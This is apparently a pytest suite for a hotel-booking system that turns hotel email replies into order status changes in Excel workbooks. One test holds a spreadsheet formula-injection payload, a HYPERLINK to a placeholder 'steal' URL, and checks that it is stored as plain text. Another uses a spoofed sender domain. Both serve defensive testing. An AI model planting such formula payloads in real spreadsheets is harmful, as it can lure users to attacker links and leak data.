"""Applying a hotel's answer: the state transitions of product.md, C5, C8, N1–N3, text never formula."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from hoteldesk.automations.context import open_context
from hoteldesk.inbox_watchers.apply import plan_reply, queue_plan
from hoteldesk.inbox_watchers.mailroom import process_mail
from hoteldesk.workbooks.pending import flush_pending
from tests.inbox_watchers import mailkit as K

AT = datetime(2026, 11, 26, 10, 15, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
NO = "HD20261126-0001"


@pytest.mark.parametrize(
    ("kind", "before", "after"),
    [
        ("confirmed", "已发", "已确认"),
        ("confirmed", "变更待确认", "已确认"),
        ("modified", "变更待确认", "已确认"),
        ("full", "已发", "满房"),
        ("denied", "已发", "拒绝"),
        ("cancelled", "取消待确认", "已取消"),
        ("cancelled", "取消", "已取消"),
        ("no-show", "已确认", "待核实"),
    ],
)
def test_transitions(kind: str, before: str, after: str) -> None:
    plan = plan_reply(kind, K.order(NO, before), received=AT, conf_no="CF1", cancel_no="CX9", reason="当日满房")
    assert plan.verdict == "apply", plan.reason
    assert plan.changes["status"] == after


def test_confirmation_writes_number_and_time() -> None:
    plan = plan_reply("confirmed", K.order(NO), received=AT, conf_no="CF889123")
    assert plan.changes == {
        "status": "已确认",
        "hotel_conf_no": "CF889123",
        "confirmed_at": datetime(2026, 11, 26, 10, 15, 30),
    }


def test_c5_full_writes_reason_and_alternatives_in_remarks() -> None:
    order = K.order(NO, remarks="无烟房")
    plan = plan_reply(
        "full", order, received=AT, reason="12月1日客满", alternatives=["BJJL 北京金陵 (朝阳, 4★) 标准间 ¥650 剩3间"]
    )
    assert plan.changes["status"] == "满房"
    assert (
        plan.changes["remarks"]
        == "无烟房；【满房 2026-11-26 10:15】12月1日客满；可替代：BJJL 北京金陵 (朝阳, 4★) 标准间 ¥650 剩3间"
    )


def test_cancellation_writes_cancel_number() -> None:
    plan = plan_reply("cancelled", K.order(NO, "取消待确认"), received=AT, cancel_no="CXL-5531")
    assert plan.changes == {"status": "已取消", "cancel_no": "CXL-5531"}


def test_n1_no_show_goes_unverified_with_the_hotels_report() -> None:
    plan = plan_reply("no-show", K.order(NO, "已确认"), received=AT, reason="客人未到")
    assert plan.changes["status"] == "待核实"
    assert "酒店报NO-SHOW" in plan.changes["remarks"] and "N1–N3" in plan.changes["remarks"]


@pytest.mark.parametrize(
    ("kind", "status", "verdict"),
    [
        ("confirmed", "新订", "review"),  # never sent: a confirmation is suspicious
        ("confirmed", "已取消", "review"),
        ("cancelled", "已发", "review"),  # we asked for no cancellation
        ("full", "已确认", "review"),
        ("no-show", "已发", "review"),
        ("unknown", "已发", "review"),
        ("cancelled", "已取消", "ignore"),
    ],
)
def test_replies_that_do_not_fit_go_to_review(kind: str, status: str, verdict: str) -> None:
    assert plan_reply(kind, K.order(NO, status), received=AT, conf_no="CF1").verdict == verdict


def test_second_confirmation_same_number_is_ignored_other_number_reviewed() -> None:
    done = K.order(NO, "已确认", hotel_conf_no="CF1")
    assert plan_reply("confirmed", done, received=AT, conf_no="CF1").verdict == "ignore"
    other = plan_reply("confirmed", done, received=AT, conf_no="CF2")
    assert other.verdict == "review" and "CF1" in other.reason and "CF2" in other.reason


def test_confirmation_without_number_goes_to_review() -> None:
    assert plan_reply("confirmed", K.order(NO), received=AT).verdict == "review"


def test_values_from_mail_are_text_never_formulas(drive: Path) -> None:
    """A value that looks like a formula lands as a text cell (architecture: data, never a formula)."""
    evil = '=HYPERLINK("http://x.example/steal","CF1")'
    with open_context(drive) as ctx:
        K.write_drive(ctx.layout, [K.order(NO)])
        plan = plan_reply("confirmed", K.order(NO), received=AT, conf_no=evil + "\x07")
        assert plan.changes["hotel_conf_no"] == evil  # control characters stripped, nothing else
        assert queue_plan(ctx, plan) == 3
        report = flush_pending(ctx)
        assert (report.applied, report.failed) == (3, 0)
    ws = openpyxl.load_workbook(drive / "workbooks/Bookings.xlsx").worksheets[0]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("确认号") + 1)
    assert (cell.data_type, cell.value) == ("s", evil)


def test_confirmation_end_to_end_sets_status_for_the_customer_letter(drive: Path) -> None:
    """C8: the outbox sends the letter when status is 已确认 with the hotel's number — both are written."""
    with open_context(drive) as ctx:
        K.write_drive(ctx.layout, [K.order(NO), K.order("HD20261126-0002", "已发", guest="李雷")])
        K.drop(ctx.layout, "1.eml", K.confirmation(NO, "CF889123"))
        lines = process_mail(ctx)
        assert lines[0] == "邮件室：已应用 1，已归档 1，转人工审核 0，忽略 0，失败 0"
    orders = K.read_orders(K.DriveLayout(drive))
    assert orders[NO]["status"] == "已确认" and orders[NO]["hotel_conf_no"] == "CF889123"
    assert isinstance(orders[NO]["confirmed_at"], datetime)
    assert orders["HD20261126-0002"]["status"] == "已发"


def test_spoofed_sender_changes_nothing_and_goes_to_review(drive: Path) -> None:
    with open_context(drive) as ctx:
        K.write_drive(ctx.layout, [K.order(NO)])
        K.drop(ctx.layout, "1.eml", K.confirmation(NO, "CF6666", sender="rsvn@huayuan-hotel.cn.attacker.net"))
        lines = process_mail(ctx)
        assert lines[0] == "邮件室：已应用 0，已归档 1，转人工审核 1，忽略 0，失败 0"
        [entry] = list(ctx.layout.mail_review.glob("*.json"))
        assert "huayuan-hotel.cn.attacker.net" in entry.read_text(encoding="utf-8")
    assert K.read_orders(K.DriveLayout(drive))[NO]["status"] == "已发"


def test_c5_full_reply_end_to_end_names_same_class_alternatives(drive: Path) -> None:
    """C5: 满房 with the hotel's reason and other 4★ hotels in the same city with rooms left on every night."""
    from datetime import date
    from decimal import Decimal

    from hoteldesk.workbooks.create import write_workbook
    from hoteldesk.workbooks.schema import HOTELS, RATES, REPLY_RULES, ROOM_STATUS, TERMS

    layout = K.DriveLayout(drive)
    other = K.hotel("BJJL", "jinling-hotel.cn", name_zh="北京金陵酒店", name_en="Jinling Beijing")
    K.write_drive(layout, [K.order(NO)])
    rate = {
        "room_type": "标准间",
        "valid_from": date(2026, 1, 1),
        "valid_to": date(2026, 12, 31),
        "floor_price": Decimal("500"),
    }
    write_workbook(
        layout.contracts,
        [
            (HOTELS, [K.hotel(), other]),
            (
                RATES,
                [{**rate, "hotel": "BJHY", "rate": Decimal("688")}, {**rate, "hotel": "BJJL", "rate": Decimal("650")}],
            ),
            (TERMS, []),
            (REPLY_RULES, []),
        ],
    )
    nights = [date(2026, 12, 1), date(2026, 12, 2)]
    write_workbook(
        layout.room_status,
        [
            (
                ROOM_STATUS,
                [
                    {"hotel": h, "room_type": "标准间", "night": n, "allotment": 5}
                    for h in ("BJHY", "BJJL")
                    for n in nights
                ],
            )
        ],
    )
    with open_context(drive) as ctx:
        K.drop(layout, "full.eml", K.reply(NO, f"很抱歉，订单 {NO} 所订日期满房，无法接受预订。原因：当日会议包房。"))
        lines = process_mail(ctx)
        assert lines[0].startswith("邮件室：已应用 1，"), lines
    order = K.read_orders(layout)[NO]
    assert order["status"] == "满房"
    assert "【满房" in order["remarks"] and "会议包房" in order["remarks"]
    assert "可替代：BJJL 北京金陵酒店" in order["remarks"]
    # C5 in 问题 in the same pass as the 满房, with the same hotel to offer (QA stop 7 §4)
    assert "[C5 警告]" in (order["problems"] or "") and "北京金陵酒店" in order["problems"]


def test_cached_orders_follow_our_own_write_back(drive: Path) -> None:
    """After a write-back the cached orders equal a fresh read (no stale status for the next reply)."""
    from hoteldesk.orders.bookings import read_records
    from hoteldesk.workbooks.schema import ORDERS

    layout = K.DriveLayout(drive)
    with open_context(drive) as ctx:
        K.write_drive(layout, [K.order(NO), K.order("HD20261126-0002", guest="李雷")])
        K.drop(layout, "1.eml", K.confirmation(NO, "CF1"))
        process_mail(ctx)
        cached = {r["order_no"]: r for r in read_records(layout.bookings, ORDERS)}
        assert cached[NO]["status"] == "已确认"
        assert cached == K.read_orders(layout)
        # a second confirmation of the same order is now recognised without re-reading
        K.drop(layout, "2.eml", K.confirmation(NO, "CF1"))
        assert process_mail(ctx)[0] == "邮件室：已应用 0，已归档 1，转人工审核 0，忽略 1，失败 0"


def test_group_reply_gives_each_order_its_own_number(drive: Path) -> None:
    layout = K.DriveLayout(drive)
    two = "HD20261126-0002"
    with open_context(drive) as ctx:
        K.write_drive(layout, [K.order(NO), K.order(two, guest="李雷")])
        body = f"贵司以下订单均已确认：\n{NO}  确认号 R5560-834\n{two}  确认号 R4725-466\n"
        K.drop(layout, "group.eml", K.reply(None, body, subject="预订确认（2张订单）"))
        lines = process_mail(ctx)
        assert lines[0].startswith("邮件室：已应用 1，已归档 1，转人工审核 0，"), lines
    orders = K.read_orders(layout)
    assert (orders[NO]["status"], orders[NO]["hotel_conf_no"]) == ("已确认", "R5560-834")
    assert (orders[two]["status"], orders[two]["hotel_conf_no"]) == ("已确认", "R4725-466")


def test_x1_hotel_confirms_another_rate_raises_an_internal_form(drive: Path) -> None:
    """X1: the order is confirmed, but the rate mismatch goes on a 内部沟通单 to pricing and a note on the order."""
    from docx import Document

    text = f"您好！\n贵司订单 {NO} 已确认，确认号：CF889123。\n房价：720元/间夜\n客人：张伟\n华苑酒店预订部"
    with open_context(drive) as ctx:
        K.write_drive(ctx.layout, [K.order(NO)])  # our rate: 688.00
        K.drop(ctx.layout, "1.eml", K.reply(NO, text))
        lines = process_mail(ctx)
    assert lines[0].startswith("邮件室：已应用 1，"), lines
    (form_line,) = [ln for ln in lines if "X1" in ln]
    assert "房价：我方 688.00，酒店 720.00" in form_line and "价格部" in form_line
    (form,) = (drive / "documents").rglob("X1_*.docx")
    body = "\n".join(c.text for t in Document(str(form)).tables for r in t.rows for c in r.cells)
    body += "\n".join(p.text for p in Document(str(form)).paragraphs)
    assert NO in body and "688.00" in body and "720.00" in body and "价格部" in body
    order = K.read_orders(K.DriveLayout(drive))[NO]
    assert order["status"] == "已确认" and order["hotel_conf_no"] == "CF889123"
    assert "X1" in order["remarks"] and "内部沟通单" in order["remarks"]
    assert "房价：我方 688.00，酒店 720.00" in order["remarks"] and "rate" not in order["remarks"]  # zh-CN only


def test_x1_same_rate_and_guest_raises_nothing(drive: Path) -> None:
    text = f"您好！\n贵司订单 {NO} 已确认，确认号：CF889123。\n房价：688元/间夜\n客人：ZHANG/WEI MR\n华苑酒店预订部"
    with open_context(drive) as ctx:
        K.write_drive(ctx.layout, [K.order(NO)])
        K.drop(ctx.layout, "1.eml", K.reply(NO, text))
        lines = process_mail(ctx)
    assert not [ln for ln in lines if "X1" in ln]
    assert not list((drive / "documents").rglob("X1_*.docx"))
